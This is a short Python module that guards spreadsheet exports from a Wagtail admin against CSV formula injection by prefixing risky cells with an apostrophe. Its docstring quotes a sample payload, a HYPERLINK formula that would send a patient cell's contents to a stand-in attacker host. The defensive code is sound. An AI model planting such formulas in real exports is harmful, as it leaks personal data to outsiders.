"""Spreadsheet exports from the admin that a spreadsheet program cannot turn against staff."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value):
    """
    A CSV cell that a spreadsheet would read as a formula (a patient named
    `=HYPERLINK("https://evil.example/?d="&C2,"Call back")`) is kept as text: an apostrophe in
    front, which spreadsheets hide, as OWASP advises. Other values pass unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeCsvMixin:
    """For views with Wagtail's SpreadsheetExportMixin. (Its XLSX export is safe already.)"""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
